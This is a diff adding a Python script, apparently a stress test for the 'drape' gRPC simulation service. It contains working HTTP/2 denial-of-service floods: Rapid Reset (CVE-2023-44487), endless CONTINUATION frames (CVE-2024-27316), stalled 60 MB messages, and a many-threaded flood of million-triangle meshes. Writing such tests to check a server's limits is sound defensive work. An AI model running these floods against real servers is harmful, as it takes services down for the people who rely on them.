@@ -1,0 +1,130 @@
+"""Clients that ask for too much, each until it is killed: greedy.py KIND HOST:PORT [TOKEN_FILE]."""
+
+import pathlib
+import socket
+import struct
+import sys
+import threading
+import time
+
+import numpy as np
+
+import drape
+import drape.mesh
+from drape import ClothSpec, Collider, Grid
+
+RINGS = 708  # 2 RINGS^2 triangles: a million
+HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
+END_HEADERS = 4
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+OPENED_AT_ONCE = 100
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def literal(name, value):
+    """A header field without indexing and without Huffman codes (RFC 7541, 6.2.2); below 127 bytes each."""
+    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def request_headers():
+    return b"".join(literal(*field) for field in [
+        (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/drape.v1.SimulationService/Step"), (b":authority", b"drape"),
+        (b"te", b"trailers"), (b"content-type", b"application/grpc")])
+
+
+def connected(address):
+    host, port = address.split(":")
+    connection = socket.create_connection((host, int(port)), timeout=5)
+    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    return connection
+
+
+def flood(address, frames_of):
+    """Sends frames_of(first_stream) over and over; connects again whenever the server ends the connection."""
+    while True:
+        try:
+            with connected(address) as connection:
+                for stream in range(1, 2**31, 2 * OPENED_AT_ONCE):
+                    connection.sendall(frames_of(stream))
+        except OSError:
+            time.sleep(0.01)
+
+
+def rapid_reset(address):
+    """Streams are opened and reset at once (CVE-2023-44487)."""
+    headers, reset = request_headers(), struct.pack(">I", 8)
+    flood(address, lambda first: b"".join(
+        frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, reset)
+        for stream in range(first, first + 2 * OPENED_AT_ONCE, 2)))
+
+
+def continuation(address):
+    """Headers that never end (CVE-2024-27316)."""
+    endless = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100)
+    flood(address, lambda first: (frame(HEADERS, 0, 1, request_headers()) if first == 1 else b"") + endless * 10)
+
+
+def half_messages(address):
+    """Many connections, each with a message of 60 MB whose last byte never comes."""
+    connections = []
+    while True:
+        try:
+            connection = connected(address)
+            connections.append(connection)
+            connection.sendall(frame(HEADERS, END_HEADERS, 1, request_headers()))
+            body = struct.pack(">BI", 0, 60_000_000) + bytes(16000)
+            for _ in range(4):  # as much as a window that is never renewed
+                connection.sendall(frame(0, 0, 1, body[:16000]))
+        except OSError:
+            time.sleep(0.01)
+        if len(connections) % 500 == 499:
+            time.sleep(0.1)
+
+
+def ball(random):
+    """A closed mesh of a million triangles: rings and two poles; another one each time, so that none is cached."""
+    polar, around = np.linspace(0, np.pi, RINGS + 2)[1:-1, None], np.linspace(0, 2 * np.pi, RINGS, endpoint=False)
+    radius = 1 + 0.1 * random.random() * np.sin(3 * around) * np.sin(polar)
+    ring = np.stack([radius * np.sin(polar) * np.cos(around), radius * np.cos(polar), radius * np.sin(polar) * np.sin(around)], -1)
+    vertices = np.concatenate([ring.reshape(-1, 3), [[0, 1, 0], [0, -1, 0]]]) - [0, 3, 0]
+    index = np.arange(RINGS * RINGS).reshape(RINGS, RINGS)
+    after = np.roll(index, -1, axis=1)
+    north, south = RINGS * RINGS, RINGS * RINGS + 1
+    a, b, c, d = index[:-1], after[:-1], index[1:], after[1:]
+    cap = np.arange(RINGS)
+    triangles = [np.stack(t, -1).reshape(-1, 3) for t in (
+        (a, b, c), (b, d, c), (np.full(RINGS, north), after[0, cap], index[0, cap]), (np.full(RINGS, south), index[-1, cap], after[-1, cap]))]
+    return drape.mesh.from_arrays(vertices.astype(np.float32), np.concatenate(triangles))
+
+
+def builds(address, token):
+    """Distance grids of a million triangles: 16 callers, each one after the other."""
+    def build(seed):
+        session = drape.connect(address, token=token).session()
+        random = np.random.default_rng(seed)
+        while True:
+            spec = ClothSpec(grid=Grid(columns=4, rows=4, width_m=0.1, height_m=0.1), colliders=[Collider(mesh=ball(random))])
+            try:
+                session.create(spec)
+            except drape.Error as error:  # a limit was met
+                print(error, file=sys.stderr, flush=True)
+                time.sleep(0.1)
+
+    for seed in range(16):
+        threading.Thread(target=build, args=(seed,), daemon=True).start()
+    time.sleep(1e9)
+
+
+def main():
+    kind, address, *rest = sys.argv[1:]
+    if kind == "builds":
+        builds(address, pathlib.Path(rest[0]).read_text() if rest else None)
+    else:
+        {"rapid_reset": rapid_reset, "continuation": continuation, "half_messages": half_messages}[kind](address)
+
+
+if __name__ == "__main__":
+    main()
